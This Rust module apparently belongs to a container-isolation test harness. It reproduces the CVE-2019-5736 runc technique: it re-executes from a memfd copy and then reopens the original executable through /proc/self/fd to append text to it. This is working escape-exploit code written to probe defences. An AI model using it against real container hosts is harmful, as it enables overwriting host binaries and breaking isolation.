//! A program that writes into its own file, which is the host's: what CVE-2019-5736 did to runc.

use super::loot;
use crate::operation::{Answer, Arguments, Operation, Place, blocked, check};
use std::ffi::CString;
use std::fs::OpenOptions;
use std::io::Write as _;
use std::path::Path;

#[rustfmt::skip] // a table
pub(super) const OPERATIONS: &[Operation] = &[
    Operation { name: "overwrite-itself", arguments: "TEXT", about: "goes on from a copy in memory, and appends TEXT to the file it was started from", needs: "the file was made for the test", place: Place::Itself, run: overwrite },
    Operation { name: "append-to-descriptor", arguments: "FD TEXT", about: "opens a descriptor's file again for writing and appends TEXT", needs: "part of overwrite-itself", place: Place::Itself, run: append },
];

fn overwrite(arguments: &Arguments) -> Answer {
    let text = arguments.text(0, "TEXT")?;
    let own = Path::new("/proc/self/exe");
    // Nothing is read from it and no `..` follows, so a descriptor that only names the file is enough.
    // SAFETY: a terminated string.
    let file = check("open /proc/self/exe", unsafe { libc::open(c"/proc/self/exe".as_ptr(), libc::O_PATH) })?;
    let copy = std::fs::read(own).map_err(blocked("read /proc/self/exe"))?;
    // While it is executed a file cannot be written (ETXTBSY), so this process goes on from a copy.
    // SAFETY: a terminated string.
    let memory = check("memfd_create", unsafe { libc::memfd_create(c"copy".as_ptr(), 0) })? as i32;
    crate::child::write_all(memory, &copy)
        .map_err(|errno| crate::operation::Stop::Blocked(format!("write: {}", crate::operation::errno_name(errno))))?;
    let words = ["palisade-attacker", "append-to-descriptor", &file.to_string(), text];
    let words: Vec<CString> = words.iter().filter_map(|word| CString::new(*word).ok()).collect();
    let mut pointers: Vec<_> = words.iter().map(|word| word.as_ptr()).collect();
    pointers.push(std::ptr::null());
    let none = [std::ptr::null::<libc::c_char>()];
    let (empty, at) = (c"".as_ptr(), libc::AT_EMPTY_PATH);
    // SAFETY: a live descriptor, terminated strings and lists.
    let failed = unsafe { libc::syscall(libc::SYS_execveat, memory, empty, pointers.as_ptr(), none.as_ptr(), at) };
    check("execveat(memfd)", failed)?;
    Ok("unreachable: execveat came back".into())
}

fn append(arguments: &Arguments) -> Answer {
    let path = format!("/proc/self/fd/{}", arguments.number(0, "FD", 65_535)?);
    let named = std::fs::read_link(&path).unwrap_or_default();
    let mut file = OpenOptions::new().append(true).open(&path).map_err(blocked("open the program for writing"))?;
    file.write_all(arguments.text(1, "TEXT")?.as_bytes()).map_err(blocked("write"))?;
    // Only a part of it is looked at: that it is still the same file.
    loot(Path::new(&path))?;
    Ok(format!("wrote into {}", named.display()))
}
